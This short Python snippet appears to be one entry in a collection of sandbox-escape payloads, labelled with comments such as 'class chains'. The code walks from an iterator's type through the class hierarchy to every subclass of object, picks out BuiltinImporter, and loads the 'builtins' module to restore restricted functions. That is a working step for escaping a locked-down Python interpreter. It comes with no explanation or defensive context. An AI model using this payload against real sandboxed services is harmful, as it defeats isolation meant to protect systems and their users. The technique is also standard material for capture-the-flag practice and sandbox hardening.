# tries: from the type of an iterator to all types
# class: class chains
# bare: python
for c in type(type(iter([]))).mro(type(iter([])))[-1].__subclasses__():
    if c.__name__ == "BuiltinImporter":
        use(c.load_module("builtins"))
